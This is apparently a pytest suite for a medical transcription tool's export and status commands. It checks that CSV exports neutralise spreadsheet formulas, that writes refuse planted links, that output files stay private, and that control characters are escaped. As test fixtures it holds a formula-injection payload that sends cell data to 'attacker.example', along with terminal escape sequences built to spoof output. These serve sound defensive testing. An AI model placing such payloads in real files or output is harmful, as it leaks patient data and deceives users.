"""Issue 20 §4: exports keep patient data inside `--out`, private, and out of formulas;
`status`, `export` and `review` print recording names escaped and relative to the source."""

from __future__ import annotations

import csv
import json
import os
import stat
import unicodedata
from pathlib import Path

import pytest
from typer.testing import CliRunner

from flows.cli import app
from storage.interface import UnitOfWorkFactory
from storage.sources import SourceFile

LANG = "en-IN"
FORMULAS = {
    "hyperlink.wav": '=HYPERLINK("http://attacker.example/?d="&A3,"open")',
    "dose.wav": "-1-1 (dose)",
    "phone.wav": "+91 98765 43210",
    "at.wav": "@SUM(A1:A9)",
    "tab.wav": "\t=1+1",
    "cr.wav": "\r=1+1",
    "spaced.wav": '  "=1+1',
    "plain.wav": "a plain note",
}


def fill(
    store: UnitOfWorkFactory,
    texts: dict[str, str | None],
    *,
    message: str = "refused",
    flags: tuple = (),
) -> None:
    """Register, claim and settle each source: done (needs_review with `flags`) with its
    text, failed when None."""
    with store.unit_of_work() as uow:
        uow.items.register_items([SourceFile(u, 10, "v1") for u in texts], language=LANG)
        items = uow.claims.claim_batch(owner="w", language=None, limit=len(texts), lease_s=60)
    with store.unit_of_work() as uow:
        for item in items:
            text = texts[item.source_uri]
            if text is None:
                uow.claims.fail_item(
                    item.id, lease_token=item.lease_token, error_kind="request_rejected",
                    message=message, retryable=False, next_attempt_at=None,
                )  # fmt: skip
            else:
                uow.claims.finish_item(item.id, lease_token=item.lease_token, text=text,
                                 duration_ms=1, chunk_count=1, extras={},
                                 flags=list(flags))  # fmt: skip


def record_run(store: UnitOfWorkFactory, source: str) -> None:
    with store.unit_of_work() as uow:
        uow.runs.start_run(source=source, language=LANG)


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
    runner: CliRunner, store: UnitOfWorkFactory, tmp_path: Path
) -> None:
    texts: dict[str, str | None] = {f"/src/{name}": text for name, text in FORMULAS.items()}
    texts["/src/=cmd.wav"] = "ok"  # a path column starting with = after the folder is fine
    texts["/src/failed.wav"] = None
    fill(store, texts, message='=HYPERLINK("http://x")')
    out = tmp_path / "items.csv"

    result = runner.invoke(app, ["export", "--format", "csv", "--out", str(out)])

    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as handle:
        rows = {Path(r["source"]).name: r for r in csv.DictReader(handle)}
    for name, text in FORMULAS.items():
        expected = text if name == "plain.wav" else "'" + text
        assert rows[name]["text"] == expected, name
    assert rows["failed.wav"]["error_message"] == "'" + '=HYPERLINK("http://x")'
    assert rows["plain.wav"]["duration_ms"] == "1"
    raw = out.read_text(encoding="utf-8")
    assert ",1,1,1," in raw  # numbers stay numbers: unquoted
    jsonl = tmp_path / "items.jsonl"
    assert runner.invoke(app, ["export", "--format", "jsonl", "--out", str(jsonl)]).exit_code == 0
    lines = jsonl.read_text(encoding="utf-8").splitlines()
    exact = {Path(r["source"]).name: r["text"] for r in map(json.loads, lines)}
    assert exact["hyperlink.wav"] == FORMULAS["hyperlink.wav"]  # not a spreadsheet: exact


@pytest.fixture
def planted(store: UnitOfWorkFactory, tmp_path: Path) -> dict[str, Path]:
    """Recordings under dict/in, an out/ folder with a link planted where one will go."""
    fill(store, {f"/src/dict/in/{n}.wav": f"note {n}" for n in ("normal", "other")})
    fill(store, {"/src/top.wav": "top"})  # the layout starts at /src
    victim = tmp_path / "victim.txt"
    victim.write_text("victim\n")
    victim.chmod(0o644)
    out = tmp_path / "out"
    (out / "dict" / "in").mkdir(parents=True)
    (out / "dict" / "in" / "normal.txt").symlink_to(victim)
    return {"victim": victim, "out": out}


def test_txt_export_never_writes_through_a_planted_link(
    runner: CliRunner, planted: dict[str, Path]
) -> None:
    out, victim = planted["out"], planted["victim"]

    result = runner.invoke(app, ["export", "--format", "txt", "--out", str(out)])

    assert victim.read_text() == "victim\n"
    assert stat.S_IMODE(victim.stat().st_mode) == 0o644
    assert (out / "dict" / "in" / "normal.txt").is_symlink()
    assert result.exit_code == 1, result.output
    assert "dict/in/normal.wav" in result.stderr
    assert "link" in result.stderr
    assert (out / "dict" / "in" / "other.txt").read_text() == "note other\n"  # the rest goes on
    assert stat.S_IMODE((out / "top.txt").stat().st_mode) == 0o600


def test_a_linked_folder_under_out_is_refused(
    runner: CliRunner, store: UnitOfWorkFactory, tmp_path: Path
) -> None:
    fill(store, {"/src/a/one.wav": "one", "/src/b/two.wav": "two"})  # out/a/, out/b/
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    out = tmp_path / "out"
    out.mkdir()
    (out / "a").symlink_to(elsewhere, target_is_directory=True)

    result = runner.invoke(app, ["export", "--format", "txt", "--out", str(out)])

    assert result.exit_code == 1, result.output
    assert list(elsewhere.iterdir()) == []
    assert (out / "b" / "two.txt").read_text() == "two\n"


def test_exports_make_private_folders_and_files(
    runner: CliRunner, store: UnitOfWorkFactory, tmp_path: Path
) -> None:
    fill(store, {"/src/a/one.wav": "one"})
    for fmt, out in (("txt", tmp_path / "new" / "deeper" / "tree"),
                     ("jsonl", tmp_path / "n2" / "deeper" / "items.jsonl"),
                     ("csv", tmp_path / "n3" / "deeper" / "items.csv"),
                     ("fhir", tmp_path / "n4" / "deeper" / "bundle.json")):  # fmt: skip
        result = runner.invoke(app, ["export", "--format", fmt, "--out", str(out)])
        assert result.exit_code == 0, (fmt, result.output)
        top = out.relative_to(tmp_path).parts[0]
        folders = [p for p in (tmp_path / top).rglob("*") if p.is_dir()] + [tmp_path / top]
        assert {oct(stat.S_IMODE(p.stat().st_mode)) for p in folders} == {"0o700"}, fmt
        files = [p for p in (tmp_path / top).rglob("*") if p.is_file()]
        assert files, fmt
        assert {stat.S_IMODE(p.stat().st_mode) for p in files} == {0o600}, fmt


def test_a_file_not_written_by_an_export_is_replaced_only_with_force(
    runner: CliRunner, store: UnitOfWorkFactory, tmp_path: Path
) -> None:
    fill(store, {"/src/a/one.wav": "one"})
    foreign = tmp_path / "items.jsonl"
    foreign.write_text("someone's notes\n")
    foreign.chmod(0o644)
    hard = tmp_path / "out" / "one.txt"  # the only source: the tree starts at /src/a
    hard.parent.mkdir()
    os.link(foreign, hard)

    refused = runner.invoke(app, ["export", "--format", "jsonl", "--out", str(foreign)])
    refused_txt = runner.invoke(app, ["export", "--format", "txt", "--out", str(tmp_path / "out")])

    assert (refused.exit_code, refused_txt.exit_code) == (1, 1), refused.output
    assert "--force" in refused.stderr
    assert "--force" in refused_txt.stderr
    assert foreign.read_text() == "someone's notes\n"
    again = tmp_path / "mine.jsonl"  # an earlier export's own file is replaced
    for _ in range(2):
        assert (
            runner.invoke(app, ["export", "--format", "jsonl", "--out", str(again)]).exit_code == 0
        )
    forced = runner.invoke(app, ["export", "--format", "txt", "--out", str(tmp_path / "out"),
                                 "--force"])  # fmt: skip
    assert forced.exit_code == 0, forced.output
    assert hard.read_text() == "one\n"
    assert foreign.read_text() == "someone's notes\n"
    assert stat.S_IMODE(hard.stat().st_mode) == 0o600


def test_long_names_are_shortened_and_never_stop_the_export(
    runner: CliRunner, store: UnitOfWorkFactory, tmp_path: Path
) -> None:
    stem = "r" * 251
    texts: dict[str, str | None] = {f"/src/{stem}{i:02d}.wav": f"note {i}" for i in range(16)}
    fill(store, texts)
    out = tmp_path / "out"

    result = runner.invoke(app, ["export", "--format", "txt", "--out", str(out)])

    assert result.exit_code == 0, result.output
    written = sorted(out.iterdir())
    assert len(written) == 16
    assert all(len(p.name.encode()) <= 255 for p in written)
    assert sorted(p.read_text() for p in written) == sorted(f"note {i}\n" for i in range(16))
    again = tmp_path / "again"
    assert runner.invoke(app, ["export", "--format", "txt", "--out", str(again)]).exit_code == 0
    assert sorted(p.name for p in again.iterdir()) == [p.name for p in written]  # stable


NASTY = "/src/ward\x1b[2J\x07\nFAKE done/bad\x1b]0;pwned\x07name\r.wav"


def assert_no_raw_controls(text: str) -> None:
    allowed = {"\n", "\t"}  # line and column separators of medasr's own output
    raw = [ch for ch in text if unicodedata.category(ch) == "Cc" and ch not in allowed]
    assert raw == [], repr(text)


def test_every_command_escapes_names_and_names_them_by_the_source(
    runner: CliRunner, store: UnitOfWorkFactory, tmp_path: Path
) -> None:
    flagged = "/src/ward/loop\x1b[31m\n.wav"
    fill(store, {NASTY: None, "/src/ward/ok.wav": "fine"}, message=f"cannot read {NASTY}")
    fill(store, {flagged: "x"}, flags=("repetition",))
    record_run(store, "/src")
    out = tmp_path / "out\x1b[2J"
    out.mkdir()
    (out / "ward").mkdir()
    (out / "ward" / "ok.txt").symlink_to(tmp_path / "nowhere")  # a refusal names it

    status = runner.invoke(app, ["status"])
    review = runner.invoke(app, ["review"])
    export = runner.invoke(app, ["export", "--format", "txt", "--out", str(out)])

    for result in (status, review, export):
        assert_no_raw_controls(result.stdout + result.stderr)
    assert "\n/src/" not in "\n" + status.stdout
    assert "ward\\u001b[2J\\u0007\\nFAKE done/bad" in status.stdout
    assert "cannot read ward\\u001b" in status.stdout  # the message names it the same way
    assert "\tward/loop\\u001b[31m\\n.wav\t" in review.stdout
    assert export.exit_code == 1
    assert "ward/ok.wav" in export.stderr
    assert "/src/" not in export.stderr
    assert "out\\u001b[2J" in export.stderr


def test_the_fhir_export_names_a_left_out_recording_escaped_and_relative(
    runner: CliRunner, store: UnitOfWorkFactory, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    nasty = "/src/ward/x\x1b[2J\n.wav"
    fill(store, {nasty: "text", "/src/ward/ok.wav": "fine"})
    with store.unit_of_work() as uow:
        uow.items.set_item_metadata({nasty: {"date": "yesterday"}}, language=None)  # FHIR refuses
    record_run(store, "/src")

    result = runner.invoke(app, ["export", "--format", "fhir", "--out", str(tmp_path / "b.json")])

    assert result.exit_code == 0, result.output
    assert "1 recording(s) left out" in result.stderr
    (line,) = [r.getMessage() for r in caplog.records if "left out" in r.getMessage()]
    assert_no_raw_controls(line)
    assert "left out of the FHIR export: ward/x\\u001b[2J\\n.wav (en-IN)" in line


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "fhir"])
def test_a_file_export_refuses_a_link_even_with_force(
    runner: CliRunner, store: UnitOfWorkFactory, tmp_path: Path, fmt: str
) -> None:
    fill(store, {"/src/a/one.wav": "one"})
    victim = tmp_path / "victim.txt"
    victim.write_text("victim\n")
    link = tmp_path / f"items.{fmt}"
    link.symlink_to(victim)

    result = runner.invoke(app, ["export", "--format", fmt, "--out", str(link), "--force"])

    assert result.exit_code == 1, result.output
    assert "symbolic link" in result.stderr
    assert link.is_symlink()
    assert victim.read_text() == "victim\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".medasr")] == []


@pytest.mark.parametrize("export_format", ["jsonl", "csv", "txt", "fhir"])
def test_out_dash_is_refused_not_a_file_named_dash(
    runner: CliRunner, store: UnitOfWorkFactory, tmp_path: Path, export_format: str
) -> None:
    """`-` reads as standard output to a person; transcripts are written to files only
    (0600, audited by path), so it is refused rather than made a file named `-`."""
    fill(store, {"/src/a.wav": "a note"})

    result = runner.invoke(app, ["export", "--format", export_format, "--out", "-"])

    assert result.exit_code == 2, result.output
    assert result.stderr.splitlines() == [
        "medasr: configuration error: --out - (standard output) is not supported: transcripts "
        "are written to a file only its owner can read; name a "
        + ("file or folder" if export_format == "txt" else "file")
    ]
    assert not (tmp_path / "-").exists()
